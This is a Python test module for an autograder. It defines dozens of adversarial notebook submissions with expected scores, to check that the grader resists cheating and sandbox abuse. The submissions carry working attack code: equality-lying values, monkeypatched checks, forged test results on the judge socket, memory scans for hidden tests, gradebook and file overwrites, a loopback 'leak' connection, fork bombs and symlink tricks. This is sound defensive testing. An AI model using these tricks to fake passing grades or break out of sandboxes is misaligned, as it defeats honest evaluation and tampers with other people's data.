"""The adversarial corpus: submissions of 01_layers that attack the grader, each with an honest
grader's score.

Every case starts from the reference solution (10 points: count_params 3, grad_norms 3, params_reached 4)
and changes it. A cheat that tries to win points always comes with a wrong answer, so that earning nothing
is visible: the score must be what the wrong answer alone deserves. ``{course}``, ``{home_canary}`` and
``{port}`` in a case's code are filled in by the test (the scratch course, a file in the real home folder,
a TCP server on the host's loopback).
"""
import json
import os
import shutil
from dataclasses import dataclass, field

import nbformat

from tests.support.grading import Case, build_submission

ASSIGNMENT = "01_layers"
EXERCISES = {
    "count_params": ["count_params_visible", "count_params_hidden"],
    "grad_norms": ["grad_norms_visible", "grad_norms_hidden"],
    "params_reached": ["params_reached_visible", "params_reached_hidden"],
}
POINTS = {"count_params": 3, "grad_norms": 3, "params_reached": 4}

WRONG_COUNT = '''
def count_params(model, trainable_only=False):
    return 0
'''
WRONG_NORMS = '''
def grad_norms(model):
    return {name: p.grad.abs().sum().item() for name, p in model.named_parameters() if p.grad is not None}
'''
SOLUTION_NORMS = '''
def grad_norms(model):
    return {name: p.grad.norm().item() for name, p in model.named_parameters() if p.grad is not None}
'''
SOLUTION_COUNT = '''
def count_params(model, trainable_only=False):
    return sum(p.numel() for p in model.parameters() if p.requires_grad or not trainable_only)
'''

FILL_RUNTIME = '''
import os
from ipykernel.connect import get_connection_file
folder, written = os.path.dirname(get_connection_file()), 0
try:
    for i in range(40):
        with open(os.path.join(folder, f"fill-{i}"), "wb") as f:
            for _ in range(16):
                f.write(bytes(2**20))
                written += 2**20
except OSError as err:
    print("runtime folder:", err.strerror)
print("wrote", written // 2**20, "MiB")
'''
MANY_PARTS = '''
import time
k = get_ipython().kernel
k.session.send(k.iopub_socket, "stream", {"name": "stdout", "text": "parts"}, parent=k.get_parent("shell"),
               buffers=[b"z" * 4 * 2**20] * 384)
time.sleep(3)
'''


@dataclass
class Attack:
    """One adversarial submission.

    name: the student id. why: what it attacks. earns: {exercise: points} an honest grader gives.
    status: the Result status expected (or a tuple of those accepted).
    cells: {solution cell grade_id: code} replacing the solution.
    after: [(grade_id or None for the end, code)] cells the student added after a cell. edit / delete: as
    in tests.support.grading.Case. raw: bytes written instead of a notebook (None: build one). notebook: False
    means the folder holds no notebook at all. kernelspec / minor / duplicate / split: see build().
    folder: the folder name under submitted/ when it is not ``name`` (an id the grader must refuse).
    layout: ``layout(folder, fill)`` makes the submission's files itself (links, FIFOs, odd files), after the
    notebook (if any) is written; see ``make``. recorded: False when nothing may reach the gradebook.
    """

    name: str
    why: str
    earns: dict
    status: str = "graded"
    cells: dict = field(default_factory=dict)
    after: list = field(default_factory=list)
    edit: dict = field(default_factory=dict)
    delete: tuple = ()
    raw: bytes = None
    notebook: bool = True
    other_assignment: str = None
    kernelspec: dict = None
    minor: int = None
    duplicate: str = None
    split: str = None
    folder: str = None
    layout: object = None
    recorded: bool = True


def full(**lost):
    """{exercise: points} with every exercise earned except those named with their points."""
    return {ex: lost.get(ex, pts) for ex, pts in POINTS.items()}


ZERO = {ex: 0 for ex in POINTS}
CHEAT_GRADEBOOK = '''
import sqlite3
try:
    db = sqlite3.connect("{course}/gradebook.db")
    db.execute("UPDATE grade SET extra_credit = 50")
    db.commit()
    print("wrote the gradebook")
except Exception as err:
    print("gradebook:", type(err).__name__, err)
'''


def _write(path_expr, label):
    return f'''
import os
for target in [{path_expr}]:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "w") as f:
            f.write("overwritten by {label}")
        print("wrote", target)
    except Exception as err:
        print("{label}:", type(err).__name__, err)
'''


# ---- against the judge (autograder.judge.process) ----------------------------------------------------------
# The tests run in another process; these try every way to reach them.

LIAR_INT = '''
class _Liar(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__

def count_params(model, trainable_only=False):
    return _Liar(0)
'''
LIAR_FLOATS = '''
class _Liar(float):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    __hash__ = float.__hash__

def grad_norms(model):
    return {name: _Liar(0.0) for name, p in model.named_parameters() if p.grad is not None}
'''
ALWAYS_EQUAL = '''
class _Yes:
    def __eq__(self, other):
        return True
    def __int__(self):
        return 26
    __hash__ = object.__hash__

def count_params(model, trainable_only=False):
    return _Yes()
'''
EQUAL_DICT = '''
class _Dict(dict):
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__

def grad_norms(model):
    return _Dict()
'''
EQUAL_LIST = '''
class _List(list):
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__

def params_reached(loss, model):
    return _List(["nothing"])
'''
OWN_SERVER = '''
import os, socket, threading
from autograder.judge import wire
from ipykernel.connect import get_connection_file
_path = os.path.join(os.path.dirname(get_connection_file()), "judge.sock")
os.unlink(_path)
_srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
_srv.bind(_path)
_srv.listen(1)

def _answer_yes():
    while True:
        conn, _ = _srv.accept()
        while True:
            try:
                head, _ = wire.recv_frame(conn, wire.Limits())
            except Exception:
                break
            value = ["t", [["b", True], ["b", True]]] if head.get("op") == "lookup" else ["b", True]
            wire.send_frame(conn, {"answer": head.get("id"), "value": value, "sync": []})

threading.Thread(target=_answer_yes, daemon=True).start()
'''
CALL_THE_JUDGE = '''
import os, socket
from autograder.judge import wire
from ipykernel.connect import get_connection_file
try:
    _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    _s.connect(os.path.join(os.path.dirname(get_connection_file()), "judge.sock"))
    wire.send_frame(_s, {"op": "test", "id": 1, "grade_id": "count_params_hidden", \
"passed": True, "sync": []})
    wire.send_frame(_s, {"answer": 1, "value": ["b", True], "sync": []})
    _s.close()
    print("sent to the socket")
except Exception as err:
    print("socket:", type(err).__name__, err)
'''
SEARCH_FOR_TESTS = '''
import ctypes, hashlib, re
# The sandbox's kernel changed its uid at start, which makes /proc/self/mem root's: \
make it the kernel's again.
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
# Two messages of the hidden tests, known here only by a prefix, their length and their sha256: \
the search must
# not itself put the text it looks for into memory.
_wanted = [(b"the tied emb", 51, "cf55d3abde02c525b35e5a7a0e3e17f5d67d213cbc3d4ada338cd0886eacae0d"),
           (b"a dead ReLU u", 74, "2f9019f96c8319906fd13b6742b762dd64804e17ed5254f2dc94ef1d1edf19ef")]
_found, _regions = set(), 0
with open("/proc/self/maps") as _maps, open("/proc/self/mem", "rb", 0) as _mem:
    for _line in _maps:
        _m = re.match(r"([0-9a-f]+)-([0-9a-f]+) (\\S+)", _line)
        _a, _b = int(_m.group(1), 16), int(_m.group(2), 16)
        if "rw" not in _m.group(3) or _b - _a > 2**30:  # data: where a test's text would be; not code
            continue
        try:
            _mem.seek(_a)
            _chunk = _mem.read(_b - _a)
        except (OSError, ValueError, OverflowError):
            continue
        _regions += 1
        for _prefix, _n, _digest in _wanted:
            _at = _chunk.find(_prefix)
            while _at >= 0:
                if hashlib.sha256(_chunk[_at:_at + _n]).hexdigest() == _digest:
                    _found.add(_digest[:8])
                _at = _chunk.find(_prefix, _at + 1)
print(f"searched {_regions} memory regions")
print("hidden test text in the kernel's memory:", sorted(_found) or "none")
'''
TRUSTED_NAMES_REBOUND = '''
import torch.nn as _nn
def tiny_cnn(num_classes=2):
    return _nn.Linear(1, 1)
class TiedLM(_nn.Module):
    def __init__(self, vocab_size=1, dim=1):
        super().__init__()
nn = None
'''
BAD_TENSORS = '''
from autograder.judge import wire
def _lie(self, t, depth):
    self._blobs.append(b"four")
    return ["T", "k-nothing", "t", "float32", [10**6], len(self._blobs) - 1, False, None]
wire.Codec._enc_tensor = _lie
'''

ATTACKS = [
    Attack("honest_solution", "control: the reference solution", full()),
    # the judge: monkeypatching the kernel reaches nothing the tests use
    Attack("patch_assertion_error", "builtins.AssertionError replaced in the kernel", full(count_params=0),
           cells={"count_params_solution": "import builtins\nbuiltins.AssertionError = "
                  "type('AssertionError', (BaseException,), {})\n" + WRONG_COUNT}),
    Attack("patch_exec", "builtins.exec and eval replaced in the kernel "
           "(plain nbgrader then runs no test at all)",
           full(params_reached=0), cells={"params_reached_solution": "import builtins\n"
                  "builtins.exec = lambda *a, **k: None\nbuiltins.eval = lambda *a, **k: True\n"
                  "def params_reached(loss, model):\n    return []\n"}),
    Attack("patch_numpy", "numpy's isclose and allclose always True", full(grad_norms=0),
           cells={"grad_norms_solution": "import numpy\n"
                  "numpy.isclose = numpy.allclose = lambda *a, **k: True\n" + WRONG_NORMS}),
    Attack("patch_torch_functions", "torch.linalg.vector_norm and Tensor.sqrt/pow bent to agree "
           "with an L1 norm",
           full(grad_norms=0), cells={"grad_norms_solution": "import torch\ntorch.linalg.vector_norm = "
                  "lambda x, *a, **k: x.abs().sum()\ntorch.Tensor.pow = lambda self, e: self.abs()\n"
                  "torch.Tensor.sqrt = lambda self: self\n" + WRONG_NORMS}),
    Attack("patch_module_class", "nn.Module.parameters and named_parameters replaced in the kernel",
           full(count_params=0), cells={"count_params_solution": "import torch.nn as nn\n"
                  "nn.Module.parameters = lambda self, recurse=True: iter([])\n" + SOLUTION_COUNT}),
    Attack("rebind_test_fixtures", "rebinds tiny_cnn, TiedLM and nn in the kernel: "
           "tests use the instructor's own",
           full(count_params=0), cells={"count_params_solution": TRUSTED_NAMES_REBOUND + WRONG_COUNT},
           after=[("count_params_solution",
                   "import torch.nn as nn\nfrom course.models import tiny_cnn, TiedLM\n")]),
    # the judge: values that lie about equality, type or hash arrive as data or as handles
    Attack("values_that_equal_everything", "an int, float and list subclass whose == is always True "
           "(and - lies)",
           ZERO, cells={"count_params_solution": LIAR_INT, "grad_norms_solution": LIAR_FLOATS,
                        "params_reached_solution": EQUAL_LIST}),
    Attack("objects_that_equal_everything", "an object equal to anything (int() 26) "
           "and a dict subclass likewise",
           full(count_params=0, grad_norms=0),
           cells={"count_params_solution": ALWAYS_EQUAL, "grad_norms_solution": EQUAL_DICT}),
    # the judge: its state, its entry points and the tests' sources are not in the kernel
    Attack("own_judge_server", "replaces the kernel's judge socket with a server that answers True "
           "to everything",
           ZERO, cells={"count_params_solution": OWN_SERVER + SOLUTION_COUNT}),
    Attack("call_the_judge", "connects to the judge socket and sends a 'test passed' message itself",
           full(count_params=0), cells={"count_params_solution": CALL_THE_JUDGE + WRONG_COUNT}),
    Attack("search_memory_for_tests", "searches the kernel's whole memory for the hidden tests "
           "after they ran", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT}, after=[(None, SEARCH_FOR_TESTS)]),
    # the judge: blocking, flooding and killing the kernel in the middle of a call
    Attack("huge_answer", "params_reached returns 300 MiB", full(params_reached=0),
           cells={"params_reached_solution": "def params_reached(loss, model):\n"
                  "    return b'x' * (300 * 2**20)\n"}),
    Attack("deep_answer", "params_reached returns a list nested 100,000 deep", full(params_reached=0),
           cells={"params_reached_solution": "def params_reached(loss, model):\n    out = []\n"
                  "    for _ in range(100_000):\n        out = [out]\n    return out\n"}),
    Attack("many_values_answer", "params_reached returns 600,000 strings", full(params_reached=0),
           cells={"params_reached_solution": "def params_reached(loss, model):\n"
                  "    return ['x'] * 600_000\n"}),
    Attack("malformed_tensors", "patches the kernel's encoder to describe tensors "
           "that do not fit their bytes",
           full(grad_norms=0, params_reached=0), cells={"grad_norms_solution": BAD_TENSORS + SOLUTION_NORMS}),
    Attack("exit_in_a_call", "params_reached ends the kernel (os._exit) while a test is calling it",
           full(params_reached=0), status="crashed",
           cells={"params_reached_solution": "import os\n"
                  "def params_reached(loss, model):\n    os._exit(1)\n"}),
    Attack("hang_in_a_call", "params_reached never returns: the test fails at its time limit",
           full(params_reached=0), cells={"params_reached_solution": "def params_reached(loss, model):\n"
                  "    while True:\n        pass\n"}),
    Attack("interrupt_in_a_call", "count_params raises KeyboardInterrupt and SystemExit inside a test's call",
           full(count_params=0),
           cells={"count_params_solution": "def count_params(model, trainable_only=False):\n"
                  "    raise KeyboardInterrupt if trainable_only else SystemExit(0)\n"}),
    Attack("print_in_a_call", "grad_norms prints 8 MB each time a test calls it (not a cheat: full marks)",
           full(), cells={"grad_norms_solution": SOLUTION_NORMS.replace("def grad_norms(model):\n",
                  "def grad_norms(model):\n    print('z' * 8 * 2**20)\n")}),
    Attack("honest_wrong", "control: one wrong exercise", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT}),
    Attack("infinite_loop", "a loop that never ends in a solution cell (cell time limit)",
           full(count_params=0), cells={"count_params_solution": "while True:\n    pass\n" + SOLUTION_COUNT}),
    Attack("sleep_forever", "time.sleep forever", full(count_params=0),
           cells={"count_params_solution": "import time\ntime.sleep(10**9)\n" + SOLUTION_COUNT}),
    Attack("os_exit", "the kernel exits (os._exit) in the second exercise: the first keeps its points",
           full(grad_norms=0, params_reached=0), status="crashed",
           cells={"grad_norms_solution": "import os\nos._exit(3)\n"}),
    Attack("segfault", "a segfault through ctypes in the second exercise",
           full(grad_norms=0, params_reached=0), status="crashed",
           cells={"grad_norms_solution": "import ctypes\nctypes.string_at(0)\n"}),
    Attack("memory_bomb", "allocates until memory runs out", full(count_params=0),
           cells={"count_params_solution": "hog = []\nwhile True:\n    hog.append(bytearray(2**28))\n"
                  + SOLUTION_COUNT}),
    # Under load the forking cell can outlast its time limit and leave the kernel unable to answer, so the
    # bomb sits in the last exercise: it loses that one (graded or crashed), the earlier ones keep theirs.
    Attack("fork_bomb", "forks until no more processes may be made", full(params_reached=0),
           status=("graded", "crashed"),
           cells={"params_reached_solution": "import os\nwhile True:\n    os.fork()\n"}),
    Attack("output_flood", "prints 20 MB (not a cheat: full marks, but the output is cut)", full(),
           after=[("count_params_solution", "for i in range(200_000):\n    print('spam ' * 20)\n")]),
    Attack("write_gradebook", "gives itself extra credit in the gradebook", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT}, after=[(None, CHEAT_GRADEBOOK)]),
    Attack("write_source", "overwrites the instructor's source notebook", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT},
           after=[(None, _write('"{course}/source/01_layers/01_layers.ipynb"', "source"))]),
    Attack("write_release", "overwrites release/", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT},
           after=[(None, _write('"{course}/release/01_layers/01_layers.ipynb"', "release"))]),
    Attack("write_other_student", "overwrites another student's submission", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT},
           after=[(None, _write('"{course}/submitted/honest_solution/01_layers/01_layers.ipynb"',
                                "other student"))]),
    Attack("write_home", "writes into the instructor's home folder", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT}, after=[(None, _write('"{home_canary}"', "home"))]),
    Attack("read_hidden_tests", "reads the hidden tests from source/ and prints them", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT},
           after=[(None, 'try:\n    print(open("{course}/source/01_layers/01_layers.ipynb").read())\n'
                         'except Exception as err:\n    print("source:", type(err).__name__)\n')]),
    Attack("network", "opens a TCP connection to a server on the host", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT},
           after=[(None, 'import socket\ntry:\n'
                         '    socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"leak")\n'
                         '    print("connected")\nexcept Exception as err:\n'
                         '    print("network:", type(err).__name__, err)\n')]),
    Attack("patch_math_isclose", "math.isclose always True, with a wrong grad_norms (L1 instead of L2)",
           full(grad_norms=0),
           cells={"grad_norms_solution": "import math\nmath.isclose = lambda *a, **k: True\n" + WRONG_NORMS}),
    Attack("patch_builtins_abs", "builtins.abs returns 0 so the visible test's tolerance check passes",
           full(grad_norms=0),
           cells={"grad_norms_solution": "import builtins\nbuiltins.abs = lambda x: 0\n" + WRONG_NORMS}),
    Attack("patch_tensor_eq", "patches torch.Tensor.__eq__ in the kernel: the judge's tensors are its own",
           full(grad_norms=0),
           cells={"grad_norms_solution": "import torch\ntorch.Tensor.__eq__ = lambda self, other: True\n"
                  + WRONG_NORMS}),
    Attack("patch_torch_restoring", "a torch.equal that restores itself after answering True once",
           full(grad_norms=0), cells={"grad_norms_solution": "import torch\n_real = torch.equal\n"
                  "def _fake(*a, **k):\n    torch.equal = _real\n    return True\ntorch.equal = _fake\n"
                  "import math\n_iscl = math.isclose\nmath.isclose = lambda *a, **k: True\n" + WRONG_NORMS}),
    Attack("patch_course", "replaces the course package's tiny_cnn used by the hidden tests",
           full(count_params=0), cells={"count_params_solution": "import course.models, torch.nn as nn\n"
                  "course.models.tiny_cnn = lambda num_classes=2: nn.Linear(1, 1)\n" + WRONG_COUNT}),
    Attack("hide_tracebacks", "silences IPython's traceback display so failed tests show no error",
           full(grad_norms=0),
           cells={"grad_norms_solution": "get_ipython().showtraceback = lambda *a, **k: None\n"
                  + WRONG_NORMS}),
    Attack("strip_asserts", "an input transformer that deletes assert lines from every later cell",
           full(grad_norms=0), cells={"grad_norms_solution": "def _no_asserts(lines):\n"
                  "    return [l for l in lines if not l.lstrip().startswith('assert')]\n"
                  "get_ipython().input_transformers_post.append(_no_asserts)\n" + WRONG_NORMS}),
    Attack("shadow_runner", "defines a __grader_test__ that does nothing "
           "(the old entry point; tests never run here)",
           full(grad_norms=0),
           cells={"grad_norms_solution": "def __grader_test__(*args):\n    pass\n" + WRONG_NORMS}),
    Attack("forge_records", "writes a fake 'test passed' line into every pipe it holds", full(grad_norms=0),
           cells={"grad_norms_solution": "import os, stat\nfor fd in range(3, 256):\n    try:\n"
                  "        if stat.S_ISFIFO(os.fstat(fd).st_mode):\n"
                  "            os.write(fd, b'\\n5 test {\"grade_id\":\"grad_norms_hidden\","
                  "\"passed\":true} 00\\n')\n"
                  "    except OSError:\n        pass\n" + WRONG_NORMS}),
    Attack("forge_via_json", "patches json so that anything saying 'passed' says True, then kills the kernel",
           full(grad_norms=0, params_reached=0), status="crashed",
           cells={"grad_norms_solution": "import json\n_encode = json.JSONEncoder.encode\n"
                  "def _lie(self, o):\n"
                  "    if isinstance(o, dict) and 'passed' in o:\n        o = dict(o, passed=True, why='')\n"
                  "    return _encode(self, o)\njson.JSONEncoder.encode = _lie\n" + WRONG_NORMS,
                  "params_reached_solution": "import os\nos._exit(3)\n"}),
    Attack("gc_reach", "walks the garbage collector for the grader's internals (there are none: full marks)",
           full(),
           cells={"grad_norms_solution": "import gc\n_all = gc.get_objects()\n" + SOLUTION_NORMS}),
    Attack("redefine_after_tests", "wrong answer, then a correct one defined after the tests ran",
           full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT}, after=[(None, SOLUTION_COUNT)]),
    Attack("edit_locked_test", "replaces a test cell with `pass`", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT},
           edit={"count_params_visible": "pass", "count_params_hidden": "pass"}),
    Attack("delete_test_cells", "deletes the test cells of a wrong exercise", full(count_params=0),
           cells={"count_params_solution": WRONG_COUNT},
           delete=("count_params_visible", "count_params_hidden")),
    Attack("changed_kernelspec", "metadata asks for a bash kernel", full(),
           kernelspec={"name": "bash", "display_name": "Bash", "language": "bash"}),
    Attack("nbformat_44", "nbformat 4.4 without cell ids (full marks)", full(), minor=4),
    Attack("duplicated_cell", "a solution cell copied, grading metadata and all (full marks)", full(),
           duplicate="count_params_solution"),
    Attack("split_cell", "a solution cell split in two, both halves with its metadata (full marks)", full(),
           split="grad_norms_solution"),
    Attack("invalid_json", "a truncated notebook", ZERO, status="rejected",
           raw=b'{"cells": [{"cell_type": "code", '),
    Attack("binary_junk", "random bytes", ZERO, status="rejected", raw=bytes(range(256)) * 64),
    Attack("empty_file", "an empty file", ZERO, status="rejected", raw=b""),
    Attack("missing_notebook", "a folder without the notebook", ZERO, status="rejected", notebook=False),
    Attack("other_assignment", "the notebook of 02_freezing handed in as 01_layers", ZERO, status="rejected",
           other_assignment="02_freezing"),
    # Limits of the sandbox as a whole (autograder.sandbox.cgroup, autograder.sandbox.policy.mount_runtime)
    # and of what its output may cost the grader (autograder.judge.judged_execute). Each scores the same
    # where the machine cannot enforce them. Children that together pass the sandbox's memory are tested on a
    # kernel with a 1.5 GiB sandbox (tests/grader/test_sandbox_limits.py): at this run's 8 GiB the OOM
    # killer takes 10-15 s to act, over the cell limit.
    Attack("fill_runtime_folder", "writes 640 MiB into the runtime folder that holds its connection file "
           "and sockets (bound read-write; a 16 MiB tmpfs when grading as root)", full(count_params=0),
           cells={"count_params_solution": FILL_RUNTIME + WRONG_COUNT}),
    Attack("print_1gib", "prints up to 1 GiB in 1 MiB messages until the cell's time limit "
           "(not a cheat: full marks; nbgrader keeps 4 MiB of it; the whole 1 GiB: "
           "tests/grader/test_sandbox_limits.py)", full(),
           after=[("count_params_solution", "import sys\nfor _ in range(1024):\n"
                   "    sys.stdout.write('x' * (2**20 - 1) + '\\n')\n    sys.stdout.flush()\n")]),
    Attack("print_one_huge_message", "one 64 MiB message, over the 8 MiB a message may have "
           "(not a cheat: full marks; the message is dropped and the later cells keep their output)", full(),
           after=[("count_params_solution",
                   "import sys\nsys.stdout.write('y' * 64 * 2**20)\nsys.stdout.flush()\n")]),
    # libzmq reads a message whole, and no cap bounds the number of its parts: nbgrader's own memory limit
    # ends it (crashed; every test had run and is scored from the judge's results) where there is a cgroup.
    Attack("many_part_message", "one message of 384 parts of 4 MiB (1.5 GiB) sent to nbgrader "
           "after the last test",
           full(count_params=0), status=("crashed", "graded"), cells={"count_params_solution": WRONG_COUNT},
           after=[(None, MANY_PARTS)]),
]


# ---- the files around the notebook: the intake reads them in the trusted parent ----------------------------
def _link(target, name="01_layers.ipynb"):
    """A layout: ``name`` in the submission folder is a symbolic link to ``target`` ({course} filled in)."""
    def layout(folder, fill):
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target.replace("{course}", fill["course"]))
    return layout


def _fifo(name):
    def layout(folder, fill):
        (folder / name).unlink(missing_ok=True)
        os.mkfifo(folder / name)
    return layout


def _text(name, text):
    def layout(folder, fill):
        (folder / name).write_text(text)
    return layout


def _folder_named_like_the_notebook(folder, fill):
    (folder / "01_layers.ipynb").unlink(missing_ok=True)
    (folder / "01_layers.ipynb").mkdir()


def _sparse_notebook(folder, fill):
    with open(folder / "01_layers.ipynb", "r+b") as f:
        f.truncate(60 * 2**20)  # 60 MiB that take no disk: refused on its size, never read


def _student_folder_link(folder, fill):
    student = folder.parent
    shutil.rmtree(student)
    student.symlink_to("honest_solution")


def _assignment_folder_link(folder, fill):
    shutil.rmtree(folder)
    folder.symlink_to("../honest_solution/01_layers")


def _raw(mutate):
    """Raw notebook bytes: the honest solution's JSON changed by ``mutate(dict)``."""
    nb = json.loads(nbformat.writes(build_submission(Case("x", "x"), ASSIGNMENT)))
    mutate(nb)
    return json.dumps(nb).encode()


def _deep_metadata(folder, fill):
    """An honest notebook whose metadata holds an object nested 5,000 deep (JSON text: no encoder
    recursion)."""
    text = _raw(lambda nb: nb["metadata"].update(deep="@DEEP@")).decode()
    (folder / "01_layers.ipynb").write_text(text.replace('"@DEEP@"', '{"x": ' * 5000 + "{}" + "}" * 5000))


def _set_fields(nb, **changes):
    nb.update(changes)


def _cell_field(index, key, value):
    def mutate(nb):
        nb["cells"][index][key] = value
    return mutate


def _grade_id_object(nb):
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id"))
    cell["metadata"]["nbgrader"]["grade_id"] = {"not": "text"}


FILE_ATTACKS = [
    Attack("link_to_source", "the notebook is a link to the instructor's source notebook (its solutions)",
           ZERO, status="rejected", layout=_link("{course}/source/01_layers/01_layers.ipynb")),
    Attack("link_relative", "the notebook is a relative link up to source/", ZERO, status="rejected",
           layout=_link("../../../source/01_layers/01_layers.ipynb")),
    Attack("link_student_folder", "submitted/<student> is a link to another student's folder", ZERO,
           status="rejected", layout=_student_folder_link),
    Attack("link_assignment_folder", "submitted/<student>/01_layers is a link to another student's", ZERO,
           status="rejected", layout=_assignment_folder_link),
    Attack("notebook_is_folder", "a folder named like the notebook", ZERO, status="rejected",
           layout=_folder_named_like_the_notebook),
    Attack("notebook_is_fifo", "the notebook is a FIFO (a plain read would block the grader forever)", ZERO,
           status="rejected", layout=_fifo("01_layers.ipynb")),
    Attack("notebook_too_big", "a 60 MiB notebook (sparse: refused before it is read)", ZERO,
           status="rejected", layout=_sparse_notebook),
    Attack("timestamp_fifo", "an honest notebook beside a timestamp.txt that is a FIFO", ZERO,
           status="rejected", layout=_fifo("timestamp.txt")),
    Attack("timestamp_dev_zero", "timestamp.txt is a link to /dev/zero (reads without end)", ZERO,
           status="rejected", layout=_link("/dev/zero", "timestamp.txt")),
    Attack("timestamp_not_a_date", "timestamp.txt holds no date", ZERO, status="rejected",
           layout=_text("timestamp.txt", "the day before the deadline, honest\n")),
    Attack("timestamp_huge", "a 1 MiB timestamp.txt", ZERO, status="rejected",
           layout=_text("timestamp.txt", "2026-01-01 00:00:00" + " " * 2**20)),
    Attack("secret_link", "submission_secret.txt is a link to a file of the instructor's "
           "(never copied; full marks)",
           full(), layout=_link("{course}/nbgrader_config.py", "submission_secret.txt")),
    Attack("deep_json", "JSON nested 100,000 deep (RecursionError in a plain parser)", ZERO,
           status="rejected", raw=b"[" * 100_000 + b"]" * 100_000),
    Attack("deep_metadata", "an honest notebook whose metadata nests 5,000 deep", ZERO, status="rejected",
           layout=_deep_metadata),
    Attack("minor_as_string", "nbformat_minor given as a string", ZERO, status="rejected",
           layout=lambda folder, fill: (folder / "01_layers.ipynb").write_bytes(
               _raw(lambda nb: _set_fields(nb, nbformat_minor="5")))),
    Attack("source_as_number", "a cell whose source is a number", ZERO, status="rejected",
           layout=lambda folder, fill: (folder / "01_layers.ipynb").write_bytes(
               _raw(_cell_field(0, "source", 7)))),
    Attack("cell_as_list", "a cell that is a list, not an object", ZERO, status="rejected",
           layout=lambda folder, fill: (folder / "01_layers.ipynb").write_bytes(
               _raw(lambda nb: nb["cells"].__setitem__(0, ["code"])))),
    Attack("grade_id_object", "a grade_id that is an object", ZERO, status="rejected",
           layout=lambda folder, fill: (folder / "01_layers.ipynb").write_bytes(_raw(_grade_id_object))),
    Attack("not_utf8", "Latin-1 bytes in the JSON", ZERO, status="rejected",
           raw=b'{"cells": [], "x": "\xe9"}'),
    Attack("id_non_ascii", "a student folder named with non-ASCII letters: refused, never in the gradebook",
           ZERO, status="rejected", folder="\u00e9l\u00e8ve", recorded=False),
    Attack("id_newline", "a student folder name with a newline in it", ZERO, status="rejected", folder="a\nb",
           recorded=False),
    Attack("id_dotfile", "a student folder name starting with a dot", ZERO, status="rejected",
           folder=".hidden", recorded=False),
    Attack("duplicated_test_cell", "an honest solution with a test cell copied, metadata and all "
           "(full marks)",
           full(), duplicate="count_params_hidden"),
    Attack("deleted_honest_tests", "an honest solution whose test cells were all deleted (full marks)",
           full(),
           delete=("count_params_visible", "count_params_hidden", "grad_norms_visible", "grad_norms_hidden",
                   "params_reached_visible", "params_reached_hidden")),
]
ATTACKS += FILE_ATTACKS


def make(attack, folder, fill):
    """Write the attack's submission into ``folder`` (``submitted/<student>/01_layers``, created here)."""
    folder.mkdir(parents=True)
    data = build(attack, fill)
    if data is not None:
        (folder / f"{ASSIGNMENT}.ipynb").write_bytes(data)
    if attack.layout is not None:
        attack.layout(folder, fill)


def build(attack, fill):
    """The bytes of the attack's notebook (or None: no file). fill: {name: value} for the code's
    {placeholders}."""
    if attack.raw is not None:
        return attack.raw
    if not attack.notebook:
        return None
    if attack.other_assignment:
        nb = build_submission(Case("x", "x"), attack.other_assignment)
        return json.dumps(nb).encode()
    code = {gid: src.replace("{course}", fill["course"]).replace("{home_canary}", fill["home_canary"])
            .replace("{port}", str(fill["port"]))
            for gid, src in attack.cells.items()}
    nb = build_submission(Case(attack.name, attack.why, replace=code, edit=attack.edit, delete=attack.delete),
                          ASSIGNMENT)
    import nbformat

    for anchor, src in attack.after:
        src = (src.replace("{course}", fill["course"]).replace("{home_canary}", fill["home_canary"])
               .replace("{port}", str(fill["port"])))
        index = len(nb.cells) if anchor is None else 1 + next(
            i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == anchor)
        nb.cells.insert(index, nbformat.v4.new_code_cell(src))
    if attack.kernelspec:
        nb.metadata["kernelspec"] = attack.kernelspec
    for gid in filter(None, [attack.duplicate, attack.split]):
        i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == gid)
        first = nbformat.from_dict(json.loads(json.dumps(nb.cells[i])))
        second = nbformat.from_dict(json.loads(json.dumps(nb.cells[i])))
        second["id"] = first["id"] + "-2"
        if gid == attack.split:  # the function's definition in one half, nothing lost
            lines = first.source.splitlines()
            first.source, second.source = "import math  # first half", "\n".join(lines)
        nb.cells[i:i + 1] = [first, second]
    raw = json.loads(nbformat.writes(nb))
    if attack.minor is not None:
        raw["nbformat_minor"] = attack.minor
        for cell in raw["cells"]:
            cell.pop("id", None)
    return json.dumps(raw).encode()
